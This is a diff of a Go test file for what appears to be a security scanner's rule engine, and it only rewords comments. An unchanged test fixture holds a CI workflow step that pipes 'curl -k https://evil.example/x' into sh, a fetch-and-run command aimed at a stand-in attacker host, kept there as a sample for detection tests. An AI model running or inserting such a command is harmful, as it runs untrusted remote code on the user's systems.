@@ -33,8 +33,8 @@ func shippedOn(t *testing.T, path, text string) map[string]bool {
 	return found
 }
 
-// The author of a file chooses its first line, and runs the file in any way. So the first
-// line adds rules, and takes none away.
+// The author of a file chooses its first line and may run the file in any way. So the first line
+// adds rules and removes none.
 func TestFirstLineTakesNoRuleAway(t *testing.T) {
 	const (
 		workflow = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -k https://evil.example/x | sh\n"
@@ -195,7 +195,7 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 					}
 					for _, text := range texts {
 						if !pattern.MatchString(text) {
-							continue // the text is another statement now
+							continue // the changed text is another statement
 						}
 						if tried++; !flagged(t, engine, cfg, change{id, path, text})[id] {
 							t.Errorf("%s in %s is excused: %q", id, path, text)
@@ -223,9 +223,8 @@ func TestHeredocsThatContinue(t *testing.T) {
 	}
 }
 
-// A function that makes its arguments harmless excuses a statement only by itself. A
-// function of another name does not, nor does one whose result another function may
-// undo, nor one with something else going on in its arguments.
+// A call excuses a statement only if its function is one that makes its arguments harmless, its
+// result stays unchanged, and nothing else happens in its arguments.
 func TestSafeCallsExcuseOnlyThemselves(t *testing.T) {
 	cfg, engine := shipped(t)
 	all := fixtures(t)
@@ -271,7 +270,7 @@ func TestSafeCallsExcuseOnlyThemselves(t *testing.T) {
 				}
 				for _, text := range changed {
 					if !pattern.MatchString(text) {
-						continue // the text is another statement now
+						continue // the changed text is another statement
 					}
 					if tried++; !flagged(t, engine, cfg, change{r.ID, all[r.ID].Path, text})[r.ID] {
 						t.Errorf("%s is excused: %q", r.ID, text)
@@ -286,7 +285,7 @@ func TestSafeCallsExcuseOnlyThemselves(t *testing.T) {
 	t.Logf("%d texts", tried)
 }
 
-// closing is the position after the parenthesis that closes the one before a position.
+// closing returns the position after the parenthesis that closes the one before a position.
 func closing(text string, from int) int {
 	depth := 1
 	for i := from; i < len(text); i++ {
